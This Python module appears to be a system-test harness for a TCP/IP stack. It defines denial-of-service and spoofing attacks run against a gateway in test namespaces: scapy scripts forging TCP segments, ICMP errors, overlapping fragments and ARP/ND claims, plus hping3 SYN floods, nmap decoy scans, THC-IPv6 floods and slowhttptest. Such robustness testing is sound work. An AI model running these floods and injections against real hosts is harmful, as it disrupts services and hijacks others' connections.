# SPDX-License-Identifier: BSD-3-Clause
# Copyright (c) 2026, the Bulkhead authors
"""What tests/system/tcp_attack runs beside honest clients: programs of Debian's, and scripts of our
own where those cannot know enough. Each is bounded in time and stays within the namespaces."""
import collections
import shlex
import sys

import net

ADDRESS, ADDRESS6, PORT = net.GW_CLIENT, "fd77:1::1", 7
PEER, PEER6 = net.CLIENT, "fd77:1::2"

# name; argv; exit status that is due (None: it is stopped); counters of which one must grow.
Attack = collections.namedtuple("Attack", "name argv status counters")

# Connects, echoes and closes over both families, until told to stop by time; prints how many did,
# of how many.
HONEST = r"""
import socket, sys, time
addrs, seconds = sys.argv[1].split(","), float(sys.argv[2])
end, tried, done = time.monotonic() + seconds, 0, 0
data = bytes(range(256)) * 8
while time.monotonic() < end:
    tried += 1
    try:
        with socket.create_connection((addrs[tried % len(addrs)], 7), timeout=10) as s:
            s.settimeout(10)
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
            got = b""
            while True:
                part = s.recv(65536)
                if not part:
                    break
                got += part
            done += got == data
    except OSError:
        pass
    time.sleep(0.005)
print(done, tried)
"""

# Sockstress: asks for much and never reads, so that the window closes and stays closed.
ZERO_WINDOW = r"""
import socket, sys, time
addr, seconds = sys.argv[1], float(sys.argv[2])
held, end = [], time.monotonic() + seconds
while time.monotonic() < end:
    if len(held) < 200:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        s.settimeout(2)
        try:
            s.connect((addr, 7))
            s.setblocking(False)
            held.append(s)
        except OSError:
            pass
    for s in held:
        try:
            s.send(b"x" * 4096)
        except OSError:
            pass
    time.sleep(0.01)
"""

# Reads as fast as it can until buffers are large, and then never again.
GROWN_WINDOW = r"""
import select, socket, sys, time
addr, seconds = sys.argv[1], float(sys.argv[2])
conns, end = [socket.create_connection((addr, 1019), timeout=5) for _ in range(40)], time.monotonic() + seconds
for s in conns:
    s.sendall(b"100000000000\n")
while time.monotonic() < end - seconds / 2:
    for s in select.select(conns, [], [], 0.1)[0]:
        s.recv(1 << 20)
time.sleep(max(0, end - time.monotonic()))
"""

TINY = r"""
import socket, sys, time
addr, seconds = sys.argv[1], float(sys.argv[2])
conns, end = [socket.create_connection((addr, 7), timeout=5) for _ in range(8)], time.monotonic() + seconds
for s in conns:
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.setblocking(False)
while time.monotonic() < end:
    for s in conns:
        try:
            s.send(b"x")
            s.recv(65536)
        except OSError:
            pass
"""

# What both scripts below share: an honest connection, and an echo that must come back unharmed.
VICTIM = r"""
import random, socket, sys, time
from scapy.all import ICMP, IP, IPerror, L3RawSocket, Raw, TCP, TCPerror
addr, seconds = sys.argv[1], float(sys.argv[2])
rng, end, raw = random.Random(1), time.monotonic() + seconds, L3RawSocket()
victim = socket.create_connection((addr, 7), timeout=10)
victim.settimeout(10)
here, sport = victim.getsockname()
def echo(text):
    victim.sendall(text)
    got = b""
    while len(got) < len(text):
        part = victim.recv(len(text) - len(got))
        assert part, "the connection ended"
        got += part
    assert got == text, "bytes that nobody sent"
"""

# Segments and ICMP errors in the name of an honest connection, whose addresses and ports are known
# and whose sequence numbers are not; those that overlap carry other bytes than the first.
FORGED = VICTIM + r"""
while time.monotonic() < end:
    for flags in ("R", "S", "SA", "A", "PA", "FA", "RA"):
        body = Raw(b"y" * rng.choice([0, 1, 100, 1000]))
        raw.send(IP(src=here, dst=addr) / TCP(
            sport=sport, dport=7, flags=flags, seq=rng.getrandbits(32), ack=rng.getrandbits(32)) / body)
    echo(b"x" * 100)
"""
FORGED_ICMP = VICTIM + r"""
while time.monotonic() < end:
    for kind, code, mtu in ((3, 4, 68), (3, 4, 0), (3, 1, 0), (3, 2, 0), (3, 3, 0), (11, 0, 0), (12, 0, 0)):
        raw.send(IP(src=rng.choice([here, "10.77.1.200"]), dst=addr) / ICMP(type=kind, code=code, nexthopmtu=mtu) /
                 IPerror(src=addr, dst=here) / TCPerror(sport=7, dport=sport, seq=rng.getrandbits(32)))
    echo(b"x" * 100)
"""

# One that sees the traffic and knows the numbers: RST and SYN beside the mark, ancient and
# overlapping data, SACK of what was never sent.
KNOWN = VICTIM + r"""
import struct
sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
def forget():
    sniffer.setblocking(False)
    try:
        while True:
            sniffer.recv(2048)
    except BlockingIOError:
        sniffer.settimeout(5)
def numbers():
    while True:
        p = sniffer.recv(2048)
        head = (p[0] & 15) * 4
        if p[0] >> 4 == 4 and len(p) >= head + 32 and p[9] == 6 and \
                struct.unpack("!HH", p[head:head + 4]) == (sport, 7):
            return struct.unpack("!II", p[head + 4:head + 12]) + struct.unpack("!II", p[head + 24:head + 32])
while time.monotonic() < end:
    echo(b"x" * 100)
    forget()
    victim.sendall(b"x")
    seq, ack, val, ecr = numbers()
    for flags, s, body, sack in (
            ("R", seq + 500, b"", ()), ("S", seq + 500, b"", ()), ("SA", seq + 1, b"", ()), ("R", seq - 50, b"", ()),
            ("PA", seq - 400, b"y" * 300, ()), ("PA", seq - 90, b"y" * 80, ()), ("FA", seq - 60, b"y" * 40, ()),
            ("A", seq, b"", (ack + 100000, ack + 200000, ack + 5, ack + 1)),
            ("A", seq, b"", (ack - 2000, ack - 1000, ack + 7000, ack + 7001))):
        options = [("NOP", None), ("NOP", None), ("Timestamp", (val, ecr))]
        if sack:
            options += [("NOP", None), ("NOP", None), ("SAck", tuple(n % 2**32 for n in sack))]
        raw.send(IP(src=here, dst=addr) / TCP(sport=sport, dport=7, flags=flags, seq=s % 2**32, ack=ack,
                                              options=options) / Raw(body))
    assert victim.recv(1) == b"x"
"""

# Pieces that overlap, have holes, are tiny, or claim more than there is; in nobody's name and in
# that of the honest.
FRAGMENTS = r"""
import random, sys, time
from scapy.all import IP, Raw, conf
addr, seconds, raw = sys.argv[1], float(sys.argv[2]), conf.L3socket(iface="c0")
rng, end = random.Random(2), time.monotonic() + seconds
while time.monotonic() < end:
    ident, source = rng.getrandbits(16), rng.choice(["10.77.1.2", "10.77.1.%d" % rng.randint(3, 250)])
    for offset, length, more in rng.choice([((0, 64, 1), (4, 64, 1), (8, 8, 0)), ((0, 8, 1),), ((0, 8, 1), (1, 8, 0)),
                                            ((8000, 1400, 0),), ((8, 800, 0), (0, 1200, 1)), ((2, 8, 1),) * 20]):
        raw.send(IP(src=source, dst=addr, id=ident, proto=6, frag=offset, flags=more) / Raw(rng.randbytes(length)))
"""

# Claims to the addresses of the honest client, of ours, and of everyone else on the link, asked for
# or not.
ARP = r"""
import random, sys, time
from scapy.all import ARP, Ether, conf
addr, seconds = sys.argv[1], float(sys.argv[2])
rng, end, link = random.Random(3), time.monotonic() + seconds, conf.L2socket(iface="c0")
ours = "02:77:77:77:77:%02x"
while time.monotonic() < end:
    mac = ours % rng.randint(1, 250)
    for op, source, target in ((1, "10.77.1.2", addr), (2, "10.77.1.2", addr), (1, "10.77.1.2", "10.77.1.2"),
                               (2, addr, addr), (1, addr, addr), (1, "10.77.1.%d" % rng.randint(3, 250), addr),
                               (2, "192.0.2.1", addr), (1, "0.0.0.0", addr)):
        link.send(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=op, hwsrc=mac, psrc=source, pdst=target))
"""


def python(text, seconds, address=ADDRESS):
    return [sys.executable, "-c", text, address, str(seconds)]


def hping(*options):
    return ["hping3", "-q", "-i", "u200", *options, ADDRESS]


def again(seconds, *argv):
    """Over and over, and quietly, for that long."""
    command = f"while :; do {shlex.join(map(str, argv))}; done >/dev/null 2>&1"
    return ["timeout", "-k", "1", str(seconds), "sh", "-c", command]


def nmap(seconds, *options):
    return again(seconds, "nmap", "-n", "-Pn", "--max-retries", "1", "--host-timeout", "5", "-T5", *options, ADDRESS)


def thc(seconds, program, *options):
    return again(seconds, f"atk6-{program}", *options)


def slow(seconds, *options):
    return ["slowhttptest", "-c", "300", "-r", "200", "-l", str(max(int(seconds), 1)), "-i", "1", "-p", "2",
            "-u", f"http://{ADDRESS}:{PORT}/", *options]


def by_hping():
    tcp = ["-p", str(PORT)]
    return [
        Attack("syn flood", hping("-S", *tcp, "--rand-source"), None, ("cookies_sent", "half_open")),
        Attack("syn flood by who does not answer", hping("-S", *tcp, "-a", "10.77.1.77"), None, ("cookies_sent", "half_open")),
        Attack("syn flood by who resets", hping("-S", *tcp, "-a", PEER), None, ("reset_received", "stray")),
        Attack("ack storm", hping("-A", *tcp), None, ("reset_sent",)),
        Attack("rst and syn", hping("-R", "-S", *tcp), None, ("stray",)),
        Attack("fin without connection", hping("-F", *tcp), None, ("stray",)),
        Attack("xmas", hping("-F", "-P", "-U", *tcp), None, ("stray",)),
        Attack("icmp fragmentation needed", hping("-1", "-C", "3", "-K", "4"), None,
               ("icmp_refused", "malformed", "not_ours")),
    ]


def by_scripts(seconds):
    return [
        Attack("zero windows", python(ZERO_WINDOW, seconds), 0, ("window_probes",)),
        Attack("grown windows", python(GROWN_WINDOW, seconds), 0, ("memory_pressure",)),
        Attack("tiny segments", python(TINY, seconds), 0, ("rx_segments",)),
        Attack("forged segments", python(FORGED, seconds), 0, ("bad_seq",)),
        Attack("forged icmp errors", python(FORGED_ICMP, seconds), 0, ("icmp_refused",)),
        Attack("segments beside the mark", python(KNOWN, seconds), 0, ("bad_sacks",)),
        Attack("overlapping fragments", python(FRAGMENTS, seconds), 0, ("fragments_refused",)),
        Attack("arp spoofing", python(ARP, seconds), 0, ("neighbour_conflicts",)),
    ]


def by_nmap(seconds):
    decoys = ",".join(f"10.77.1.{i}" for i in range(30, 40))
    return [
        Attack("nmap scans", nmap(seconds, "-sS", "-p", "1-100"), None, ("no_listener",)),
        Attack("nmap null, fin, xmas", nmap(seconds, "-sN", "-p", "1-50"), None, ("no_listener", "stray")),
        Attack("nmap maimon and fragments", nmap(seconds, "-sM", "-f", "--send-eth", "-p", "1-50"), None,
               ("fragments",)),
        Attack("nmap with decoys", nmap(seconds, "-sS", "-D", decoys, "-p", "7,8,9"), None, ("no_listener",)),
        Attack("nmap protocols", nmap(seconds, "-sO", "-p", "1-60"), None, ("not_ours", "malformed")),
    ]


def by_thc(seconds):
    return [
        Attack("syn flood over ipv6", thc(seconds, "thcsyn6", "-i", "200", "-r", "c0", ADDRESS6, PORT), None,
               ("cookies_sent", "half_open")),
        Attack("flood of advertisements", thc(seconds, "flood_advertise6", "c0", ADDRESS6), None, ("nd",)),
        Attack("flood of solicitations", thc(seconds, "flood_solicitate6", "c0", ADDRESS6), None,
               ("nd_refused", "neighbour_evicted", "neighbour_conflicts")),
        Attack("nd spoofing",
               thc(seconds, "fake_advertise6", "-n", "20", "-w", "0", "c0", PEER6, ADDRESS6, "02:77:77:77:77:01"),
               None, ("nd_refused", "neighbour_conflicts")),
        Attack("flood of unreachables", thc(seconds, "flood_unreach6", "c0", ADDRESS6), None,
               ("icmp_refused", "malformed", "not_ours", "nd_refused")),
        Attack("icmpv6 too big", thc(seconds, "toobig6", "-u", "c0", ADDRESS6, PEER6, "1280"), None,
               ("icmp_refused", "malformed", "not_ours")),
        Attack("fragmentation over ipv6", thc(seconds, "fragmentation6", "-p", "c0", ADDRESS6), None, ("fragments",)),
        Attack("broken ipv6", thc(seconds, "fuzz_ip6", "-I", "-F", "-S", "-D", "-H", "-R", "-J", "c0", ADDRESS6),
               None, ("malformed", "not_ours", "fragments")),
    ]


def by_slowhttptest(seconds):
    return [
        Attack("slow headers", slow(seconds, "-H"), None, ("rx_segments",)),
        Attack("slow body", slow(seconds, "-B"), None, ("rx_segments",)),
        Attack("slow read", slow(seconds, "-X", "-w", "1", "-y", "8", "-n", "1", "-z", "1"), None, ("rx_segments",)),
    ]


# net_af_packet has the kernel put these together before anyone sees them
# (PACKET_FANOUT_FLAG_DEFRAG): there is nothing of them to count.
FRAGMENTS4 = "overlapping fragments", "nmap maimon and fragments"


def all_attacks(seconds, device):
    attacks = [*by_hping(), *by_scripts(seconds), *by_nmap(seconds), *by_thc(seconds), *by_slowhttptest(seconds)]
    if device != "af_packet":
        return attacks
    return [a._replace(counters=()) if a.name in FRAGMENTS4 else a for a in attacks]
